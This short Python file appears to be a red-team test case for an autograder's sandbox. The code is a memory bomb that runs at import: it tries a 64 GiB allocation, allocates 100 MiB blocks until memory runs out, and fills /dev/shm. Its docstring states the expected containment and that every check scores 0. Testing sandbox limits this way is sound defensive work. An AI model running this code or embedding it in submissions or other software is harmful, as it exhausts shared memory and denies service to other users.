"""A memory bomb.

Attack: no homework. At import, ask for 64 GiB at once, then keep allocating (and touching) 100 MiB blocks
until the allocation fails, then keep what it holds and allocate from /dev/shm too.
Expected: the memory limit makes the allocation fail inside the grading process; the grader's own process
and the other students are unaffected. Every check scores 0.
"""

_rt_blocks = []
try:
    _rt_blocks.append(bytearray(64 * 2**30))
except MemoryError:
    pass
try:
    while True:
        _rt_blocks.append(b"\x01" * (100 * 2**20))
except MemoryError:
    pass
try:
    with open("/dev/shm/red_team_fill", "wb") as _rt_handle:
        _rt_handle.writelines(b"\x02" * (100 * 2**20) for _ in range(64))
except (OSError, MemoryError):
    pass
raise MemoryError(f"red team held {len(_rt_blocks)} blocks")
